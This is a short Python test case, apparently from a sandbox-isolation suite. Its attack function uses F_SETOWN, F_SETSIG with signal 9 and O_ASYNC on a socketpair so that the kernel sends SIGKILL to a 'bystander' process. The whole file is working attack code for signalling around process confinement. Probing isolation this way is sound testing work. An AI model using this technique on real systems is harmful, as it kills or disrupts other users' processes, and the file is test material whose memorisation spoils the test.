"""Let the kernel signal another process when a pipe gets ready: F_SETOWN, F_SETSIG, O_ASYNC.

evidence: peer
"""

import fcntl
import os
import socket
import time


def attack(arena: dict[str, str]) -> None:
    reader, writer = socket.socketpair()
    fcntl.fcntl(reader, fcntl.F_SETOWN, int(arena["bystander"]))
    fcntl.fcntl(reader, 10, 9)
    fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | os.O_ASYNC)
    writer.send(b"now")
    time.sleep(0.2)
